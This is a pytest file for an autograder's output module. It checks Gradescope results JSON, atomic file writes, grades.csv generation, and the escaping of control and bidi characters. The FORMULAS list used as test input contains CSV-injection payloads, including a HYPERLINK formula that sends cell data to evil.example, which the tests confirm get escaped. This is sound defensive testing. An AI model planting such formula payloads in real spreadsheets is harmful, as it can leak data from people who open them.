"""Are results written atomically, in Gradescope's format, and is grades.csv rebuilt from them?"""

import csv
import io
import json
import os
from dataclasses import replace

import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from autograder.engine import (gradescope_results, grades_csv, load_config, read_result, read_results,
                               write_grades_csv, write_result)
from autograder.engine.outputs import atomic_write_text, strip_control_chars, student_cell
from autograder.engine.results import ItemResult, SubmissionResult
from autograder.gradescope.schema import check_results


def sample(student="amy") -> SubmissionResult:
    config = load_config("lec01_codesign")
    items = []
    for item in config.items:
        if item.kind == "text":
            items.append(ItemResult(item.id, item.kind, 0.0, item.points, "manual", "人工评分\n", "", item.title))
        elif item.id == "quantize":
            items.append(ItemResult(item.id, item.kind, 12.5, item.points, "partial", "部分通过\n", "", item.title))
        else:
            items.append(ItemResult(item.id, item.kind, item.points, item.points, "passed", "通过\n", "", item.title))
    score = sum(i.score for i in items)
    return SubmissionResult(student, score, config.total_points, tuple(items), "bubblewrap", 1.25,
                            "lec01_codesign", "f" * 64)


def test_results_json_is_valid_gradescope_and_lists_manual_items_in_the_summary():
    result = sample()
    data = gradescope_results(result, visibility="after_published")
    check_results(data)
    manual = [i.id for i in result.items if i.status == "manual"]
    assert not any(test["name"].startswith(tuple(manual)) for test in data["tests"])
    assert all(m in data["output"] for m in manual)
    assert data["score"] == result.score and {t["visibility"] for t in data["tests"]} == {"after_published"}


def test_a_written_result_reads_back_identically(tmp_path):
    result = sample()
    write_result(tmp_path, result)
    assert read_result(tmp_path / "results" / "amy.json") == result
    assert "# lec01_codesign 评分反馈：`amy`" in (tmp_path / "feedback" / "amy.md").read_text("utf-8")


def test_grades_csv_leaves_manual_items_blank_and_sorts_students():
    config = load_config("lec01_codesign")
    text = grades_csv(config, [sample("zed"), sample("amy")])
    lines = text.splitlines()
    assert lines[0].split(",") == ["student", "score", "max_score", "isolation", "late_penalty", "quotas",
                                   *[i.id for i in config.items]]
    assert [line.split(",")[0] for line in lines[1:]] == ["amy", "zed"]
    row = dict(zip(lines[0].split(","), lines[1].split(",")))
    assert row["quantize"] == "12.5" and row["q20_explain_scaling"] == ""
    assert row["max_score"] == f"{config.total_points:g}"  # the assignment's total, free text included
    assert row["isolation"] == "bubblewrap"


# A control character before the formula must not hide the formula.
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1",
            "\x01=HYPERLINK(1)", "\x1b\x7f@SUM(A1)", "\x9b-2+3"]


@pytest.mark.parametrize("student", FORMULAS)
def test_grades_csv_escapes_cells_a_spreadsheet_would_run_as_formulas(student):
    config = load_config("lec01_codesign")
    rows = list(csv.reader(io.StringIO(grades_csv(config, [sample(student), sample("amy")]))))
    (escaped,) = [row[0] for row in rows[1:] if row[0] != "amy"]
    # shown as text: each control character as an escape (removing it would show `alice` + BEL as
    # alice), never first in the cell, and no formula character first either
    assert escaped == student_cell(student) and escaped == strip_control_chars(escaped)
    assert not escaped.startswith(("=", "+", "-", "@"))


CONTROL = "nul:\x00 bell:\x07 esc:\x1b[2J cr:\r del:\x7f c1:\x9b end"


def test_control_characters_never_reach_feedback_or_results_json(tmp_path):
    result = sample()
    noisy = tuple(ItemResult(i.id, i.kind, i.score, i.max_score, i.status, i.feedback_md + CONTROL,
                             CONTROL if i.kind == "function" else i.output, i.title) for i in result.items)
    result = SubmissionResult(**{**result.to_dict(), "items": noisy})
    write_result(tmp_path, result)
    feedback = (tmp_path / "feedback" / "amy.md").read_text(encoding="utf-8")
    results_text = (tmp_path / "results" / "amy.json").read_text(encoding="utf-8")
    for text in (feedback, json.loads(results_text)["tests"][0]["output"],
                 json.dumps(json.loads(results_text)["extra_data"], ensure_ascii=False)):
        assert "nul: bell: esc:[2J cr: del: c1: end" in text
        assert not [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7f <= ord(c) <= 0x9f]
    assert "\\u0000" not in results_text and "\\u001b" not in results_text


def test_atomic_write_leaves_the_old_file_when_interrupted(tmp_path, monkeypatch):
    target = tmp_path / "grades.csv"
    atomic_write_text(target, "old\n")

    def boom(*args):
        raise KeyboardInterrupt

    monkeypatch.setattr("os.replace", boom)
    with pytest.raises(KeyboardInterrupt):
        atomic_write_text(target, "new\n")
    assert target.read_text() == "old\n" and [p.name for p in tmp_path.iterdir()] == ["grades.csv"]


def test_unreadable_results_files_are_ignored(tmp_path):
    (tmp_path / "x.json").write_text(json.dumps({"score": 1}))
    assert read_result(tmp_path / "x.json") is None


# grades.csv is built by reading one result at a time (write_grades_csv); it must be the same bytes
# as the whole class's grades_csv, whatever the names sort like and whether any variant is there.
NAMES = st.text(alphabet="abzAZ09-._=+@é", min_size=1, max_size=6).filter(lambda s: not s.startswith("."))


def stored_class(out, students, variant_of=None, flags=()):
    """Each student's result written to out/results/, with a variant digest where variant_of says."""
    for student in students:
        result = sample(student)
        variant = (variant_of or {}).get(student, "")
        write_result(out, replace(result, variant=variant, student_id=student if variant else "",
                                  flags=tuple(flags) if variant else ()))


@settings(max_examples=15, deadline=None, derandomize=True, database=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(students=st.lists(NAMES, min_size=1, max_size=5, unique=True), with_variant=st.booleans())
def test_grades_csv_read_one_result_at_a_time_is_the_whole_class_grades_csv(tmp_path_factory, students, with_variant):
    out = tmp_path_factory.mktemp("out")
    config = load_config("lec01_codesign")
    stored_class(out, students, {students[-1]: "v" * 16} if with_variant else None, flags=["另一名学生, 的 id\n二"])
    assert write_grades_csv(out, config) == len(students)
    assert (out / "grades.csv").read_bytes() == grades_csv(config, read_results(out)).encode("utf-8")


def test_streamed_grades_csv_skips_other_assignments_and_unreadable_files_and_sees_each_result_in_order(tmp_path):
    config = load_config("lec01_codesign")
    stored_class(tmp_path, ["amy-b", "amy", "amy.b", "=x"])
    write_result(tmp_path, replace(sample("bob"), assignment="other"))
    (tmp_path / "results" / "junk.json").write_text("{not json")
    seen = []
    assert write_grades_csv(tmp_path, config, each=lambda r: seen.append(r.student)) == 4
    assert seen == sorted(seen) == ["=x", "amy", "amy-b", "amy.b"]
    expected = grades_csv(config, [r for r in read_results(tmp_path) if r.assignment == config.assignment])
    assert (tmp_path / "grades.csv").read_text("utf-8") == expected
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []   # no spool or temporary left


def test_a_name_with_bytes_that_are_no_utf8_is_a_readable_cell_and_line():
    """A folder or file name's non-UTF-8 bytes (lone surrogates in Python) could not be written to a
    UTF-8 CSV at all: they are shown as \\xNN escapes, in the CSV and on the terminal."""
    from autograder.engine.outputs import csv_cell, show_controls

    name = os.fsdecode(b"=caf\xe9\xff")
    assert csv_cell(name) == "'=caf\\xe9\\xff"
    assert show_controls(name + "\x1b[2J") == "=caf\\xe9\\xff\\x1b[2J"
    assert csv_cell("lone \ud800 surrogate").encode("utf-8")


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u2069", "\u200f", "\u061c", "\u200b", "\ufeff", "\u2028",
                                  "\u2029", "\U000e0041", "\x1b", "\x9b", "\ud800"])
def test_the_terminal_and_the_csv_escape_the_same_characters(char):
    """One rule for what is shown as an escape: a right-to-left override (U+202E) in a file name
    reached the instructor's terminal raw in collect's and reconcile's lines (a bidi-aware terminal
    shows the line reordered: `ok\u202e: copied from alice`) while the CSV cell escaped it."""
    from autograder.engine.outputs import show_controls, student_cell

    name = f"ok{char}: copied from alice"
    line, cell = show_controls(name), student_cell(name)
    assert char not in line and char not in cell
    assert line.startswith("ok\\") and cell.startswith("ok\\")
    assert show_controls("plain text, café, 名前 and a tab-free line") == "plain text, café, 名前 and a tab-free line"
